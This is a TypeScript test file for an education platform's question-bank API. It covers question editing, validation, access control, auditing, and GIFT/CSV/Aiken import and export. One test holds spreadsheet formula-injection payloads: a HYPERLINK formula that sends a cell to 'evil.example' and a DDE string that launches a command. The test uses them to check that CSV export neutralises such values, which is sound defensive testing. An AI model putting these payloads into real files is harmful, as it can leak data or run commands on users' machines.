/**
 * The question bank on this engine: teachers list, add, edit and remove questions of a module's
 * test; an edit comes back with a new id and leaves the old one to the attempts that had it;
 * bad questions are refused beside their field with nothing written; students are refused;
 * every change is audited; a module without a test gets one on its first question.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TAdminQuestionList, TImportReport } from '@padanam/contract';
import { startStudentSession } from '../../database-helpers.js';
import { insertStudent } from '../../test/accounts.js';
import { callerOf, insertStaff } from '../../test/staff.js';
import { createTestApp, type TestApp } from '../../test/test-app.js';

describe('the question bank', () => {
  let testApp: TestApp;
  let teacher: { id: number; token: string };
  let student: string;
  let moduleId: number;
  let paperId: number;
  const call = callerOf(() => testApp.app);
  const listUrl = (id: number, category = 'special_exam') => `/api/admin/modules/${id}/questions?category=${category}`;
  const question = (text: string) => ({
    text,
    options: ['Stack', 'Queue', 'ഹീപ്പ്'],
    correctOption: 2,
    solution: 'A heap keeps the smallest at the top: $$O(\\log n)$$ per insert.',
  });

  beforeAll(async () => {
    testApp = await createTestApp({ seed: true });
    const db = testApp.database.db;
    teacher = await insertStaff(db, 'teacher');
    student = await startStudentSession(db, (await insertStudent(db)).id);
    const module = await db.selectFrom('modules').select(['id', 'paperId']).orderBy('id').executeTakeFirstOrThrow();
    moduleId = module.id;
    paperId = module.paperId;
  });
  afterAll(() => testApp.close());

  it('lists a test’s questions in order, and adds one at the end', async () => {
    const before = (await call('GET', listUrl(moduleId), teacher.token)).json() as TAdminQuestionList;
    expect(before.questions).toHaveLength(10);
    expect(before.questions.map((entry) => entry.number)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    const added = await call('POST', listUrl(moduleId), teacher.token, question('Which keeps the minimum on top?'));
    expect(added.statusCode, added.body).toBe(201);
    const after = added.json() as TAdminQuestionList;
    expect(after.revision).toBe(before.revision + 1);
    expect(after.questions.at(-1)).toMatchObject({ number: 11, ...question('Which keeps the minimum on top?') });
  });

  it('edits a question into a new one, keeping its place, and removes one', async () => {
    const list = (await call('GET', listUrl(moduleId), teacher.token)).json() as TAdminQuestionList;
    const [first, second] = list.questions;
    const edited = await call('PUT', `/api/admin/questions/${first!.id}`, teacher.token, question('Edited first'));
    expect(edited.statusCode, edited.body).toBe(200);
    const afterEdit = edited.json() as TAdminQuestionList;
    expect(afterEdit.questions[0]).toMatchObject({ number: 1, text: 'Edited first' });
    expect(afterEdit.questions[0]!.id).not.toBe(first!.id);
    // The old id is no longer a current question: editing or removing it again is a 404.
    expect((await call('PUT', `/api/admin/questions/${first!.id}`, teacher.token, question('x'))).statusCode).toBe(404);
    expect((await call('DELETE', `/api/admin/questions/${first!.id}`, teacher.token)).statusCode).toBe(404);

    const removed = await call('DELETE', `/api/admin/questions/${second!.id}`, teacher.token);
    expect(removed.statusCode).toBe(200);
    const afterRemove = removed.json() as TAdminQuestionList;
    expect(afterRemove.questions.map((entry) => entry.id)).not.toContain(second!.id);
    expect(afterRemove.questions).toHaveLength(list.questions.length - 1);
    // The rows stay for the attempts that had them.
    const kept = await testApp.database.db
      .selectFrom('questions')
      .select(['id', 'toRevision'])
      .where('id', 'in', [first!.id, second!.id])
      .orderBy('id')
      .execute();
    expect(kept.every((row) => row.toRevision !== null)).toBe(true);
  });

  it('refuses a bad question beside its field and writes nothing', async () => {
    const before = (await call('GET', listUrl(moduleId), teacher.token)).json() as TAdminQuestionList;
    for (const [body, field] of [
      [{ ...question('x'), options: ['only one'], correctOption: 0 }, 'options'],
      [{ ...question('x'), correctOption: 3 }, 'correctOption'],
      [{ ...question('   ') }, 'text'],
      [{ ...question('x'), options: ['a', ' '] }, 'options.1'],
      [{ ...question('x'), options: ['1', '2', '3', '4', '5', '6', '7'] }, 'options'],
    ] as const) {
      const reply = await call('POST', listUrl(moduleId), teacher.token, body);
      expect(reply.statusCode, JSON.stringify(body)).toBe(400);
      expect(reply.json().error.fields, JSON.stringify(body)).toHaveProperty(field);
    }
    const after = (await call('GET', listUrl(moduleId), teacher.token)).json() as TAdminQuestionList;
    expect(after).toEqual(before);
    expect((await call('GET', listUrl(moduleId), student)).statusCode).toBe(403);
    expect((await call('POST', listUrl(moduleId), student, question('Planted'))).statusCode).toBe(403);
    expect(
      (await call('GET', `/api/admin/modules/${moduleId}/questions?category=quiz`, teacher.token)).statusCode,
    ).toBe(400);
  });

  it('makes the test of a new module on its first question, and audits every change', async () => {
    const added = await call('POST', `/api/admin/papers/${paperId}/modules`, teacher.token, {
      title: 'Question bank module',
      description: '',
      duration: null,
      isFreePreview: false,
    });
    const newModuleId = (added.json() as { id: number }).id;
    expect((await call('GET', listUrl(newModuleId, 'weekly_challenge'), teacher.token)).json()).toMatchObject({
      quizId: null,
      revision: 0,
      questions: [],
    });
    const first = await call('POST', listUrl(newModuleId, 'weekly_challenge'), teacher.token, question('First one'));
    expect(first.json()).toMatchObject({ revision: 2, questions: [{ number: 1, text: 'First one' }] });
    const actions = await testApp.database.db
      .selectFrom('auditLog')
      .select('action')
      .where('entityType', '=', 'question')
      .orderBy('id')
      .execute();
    expect(actions.map((entry) => entry.action)).toEqual([
      'question.create',
      'question.update',
      'question.delete',
      'question.create',
    ]);
  });

  describe('import and export', () => {
    const giftWith = (broken: string) =>
      [
        '// A teacher’s file written for Moodle',
        '$CATEGORY: $course$/Data structures',
        '',
        '::Stack:: Which structure is LIFO? {=Stack ~Queue ~Tree}',
        '',
        broken,
        '',
        '::TF:: A queue is FIFO. {T}',
        '',
        '::Malayalam:: ഏത് ഘടനയാണ് FIFO? {=ക്യൂ ~സ്റ്റാക്ക്}',
        '',
        '::Math:: Evaluate $$\\\\frac\\{6\\}\\{3\\}$$ {=2 ~3 ####Six over three is two.}',
      ].join('\n');
    const importUrl = (dryRun: boolean) => `/api/admin/questions/import?dryRun=${dryRun}`;
    let target: number;

    beforeAll(async () => {
      const added = await call('POST', `/api/admin/papers/${paperId}/modules`, teacher.token, {
        title: 'Imported module',
        description: '',
        duration: null,
        isFreePreview: false,
      });
      target = (added.json() as { id: number }).id;
    });

    const send = (dryRun: boolean, text: string, extra: Record<string, unknown> = {}) =>
      call('POST', importUrl(dryRun), teacher.token, {
        moduleId: target,
        category: 'special_exam',
        format: 'gift',
        text,
        ...extra,
      });
    const questionsOfTarget = async () =>
      ((await call('GET', listUrl(target), teacher.token)).json() as TAdminQuestionList).questions;

    it('reports each row on a dry run, writes nothing while a row is broken, then imports the fixed file', async () => {
      const broken = '::Broken:: Which is a tree? {=Heap ~Stack';
      const dry = await send(true, giftWith(broken));
      expect(dry.statusCode, dry.body).toBe(200);
      const report = dry.json() as TImportReport;
      expect(report.rows.map((row) => [row.line, row.label, row.outcome])).toEqual([
        [4, 'Stack', 'valid'],
        [6, 'Broken', 'refused'],
        [8, 'TF', 'unsupported'],
        [10, 'Malayalam', 'valid'],
        [12, 'Math', 'valid'],
      ]);
      expect(report).toMatchObject({
        dryRun: true,
        isStopped: false,
        counts: { valid: 3, refused: 1, unsupported: 1, written: 0 },
      });
      expect(report.rows[1]!.messages[0]).toMatch(/^Line 6 cannot be read as GIFT/);

      const refused = (await send(false, giftWith(broken))).json() as TImportReport;
      expect(refused).toMatchObject({
        dryRun: false,
        isStopped: true,
        counts: { valid: 0, 'not-written': 3, refused: 1, unsupported: 1, written: 0 },
      });
      expect(await questionsOfTarget()).toEqual([]);

      const fixed = (await send(false, giftWith('::Tree:: Which is a tree? {=Heap ~Stack}'))).json();
      expect(fixed).toMatchObject({ isStopped: false, counts: { valid: 0, refused: 0, unsupported: 1, written: 4 } });
      const questions = await questionsOfTarget();
      expect(questions.map((question) => question.text)).toEqual([
        'Which structure is LIFO?',
        'Which is a tree?',
        'ഏത് ഘടനയാണ് FIFO?',
        'Evaluate $$\\frac{6}{3}$$',
      ]);
      expect(questions[3]).toMatchObject({ options: ['2', '3'], correctOption: 0, solution: 'Six over three is two.' });
    });

    it('imports the valid rows when asked, and refuses an unreadable file or too many questions', async () => {
      const before = (await questionsOfTarget()).length;
      const partial = await send(false, giftWith('::Broken:: {'), { importValidRows: true });
      expect(partial.json()).toMatchObject({ isStopped: false, counts: { refused: 1, written: 3 } });
      expect(await questionsOfTarget()).toHaveLength(before + 3);

      const noHeader = await send(false, 'Which is LIFO?,Stack,Queue,1', { format: 'csv' });
      expect(noHeader.statusCode).toBe(400);
      expect(noHeader.json().error.message).toMatch(/^The first line must name the columns/);

      const many = Array.from({ length: 501 }, (_, index) => `Question ${index}?\nA. yes\nB. no\nANSWER: A`).join(
        '\n\n',
      );
      const tooMany = await send(true, many, { format: 'aiken' });
      expect(tooMany.statusCode).toBe(400);
      expect(tooMany.json().error.message).toBe('At most 500 questions in one import; this file has 501.');
      const fiveHundred = Array.from(
        { length: 500 },
        (_, index) => `Question ${index}?\nA. yes\nB. no\nANSWER: B`,
      ).join('\n\n');
      expect((await send(true, fiveHundred, { format: 'aiken' })).json()).toMatchObject({
        counts: { valid: 500, written: 0 },
      });
      expect(
        (
          await call('POST', importUrl(true), student, {
            moduleId: target,
            category: 'special_exam',
            format: 'gift',
            text: 'x',
          })
        ).statusCode,
      ).toBe(403);
    });

    it('exports each format so that importing it elsewhere gives the same questions', async () => {
      const source = await questionsOfTarget();
      for (const format of ['csv', 'gift', 'aiken'] as const) {
        const exported = await call(
          'GET',
          `/api/admin/modules/${target}/questions/export?category=special_exam&format=${format}`,
          teacher.token,
        );
        expect(exported.statusCode, exported.body).toBe(200);
        expect(exported.headers['content-disposition']).toContain(`module-${target}-special_exam.`);
        const added = await call('POST', `/api/admin/papers/${paperId}/modules`, teacher.token, {
          title: `Copy by ${format}`,
          description: '',
          duration: null,
          isFreePreview: false,
        });
        const copyId = (added.json() as { id: number }).id;
        const imported = await call('POST', importUrl(false), teacher.token, {
          moduleId: copyId,
          category: 'weekly_challenge',
          format,
          text: exported.body,
        });
        expect(imported.json(), format).toMatchObject({ counts: { written: source.length, refused: 0 } });
        const copied = (
          (await call('GET', listUrl(copyId, 'weekly_challenge'), teacher.token)).json() as TAdminQuestionList
        ).questions;
        const strip = (list: typeof source) =>
          list.map(({ text, options, correctOption, solution }) => ({
            text,
            options,
            correctOption,
            // Aiken has no solutions.
            solution: format === 'aiken' ? null : solution,
          }));
        expect(strip(copied), format).toEqual(strip(source));
      }
    });

    it('exports a teacher’s text a spreadsheet would run as a formula behind a quote, and imports it back as it was', async () => {
      const newModule = async (title: string) =>
        (
          (
            await call('POST', `/api/admin/papers/${paperId}/modules`, teacher.token, {
              title,
              description: '',
              duration: null,
              isFreePreview: false,
            })
          ).json() as { id: number }
        ).id;
      const hostile = {
        text: '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
        options: ["-2+3+cmd|' /C calc'!A0", '+2', '@SUM(1,1)', 'plain'],
        correctOption: 1,
        solution: '-b over 2a',
      };
      const from = await newModule('Formulas');
      expect((await call('POST', listUrl(from), teacher.token, hostile)).statusCode).toBe(201);
      const exported = await call(
        'GET',
        `/api/admin/modules/${from}/questions/export?category=special_exam&format=csv`,
        teacher.token,
      );
      expect(exported.statusCode, exported.body).toBe(200);
      const line = exported.body.split('\r\n')[1]!;
      expect(line).toBe(
        `"'=HYPERLINK(""https://evil.example/?leak=""&B2,""Open"")","'-2+3+cmd|' /C calc'!A0","'+2","'@SUM(1,1)",plain,,,2,"'-b over 2a",`,
      );

      const to = await newModule('Formulas copied');
      const imported = await call('POST', importUrl(false), teacher.token, {
        moduleId: to,
        category: 'special_exam',
        format: 'csv',
        text: exported.body,
      });
      expect(imported.json()).toMatchObject({ counts: { written: 1, refused: 0 } });
      const copied = ((await call('GET', listUrl(to), teacher.token)).json() as TAdminQuestionList).questions;
      expect(copied).toEqual([expect.objectContaining(hostile)]);
    });
  });
});
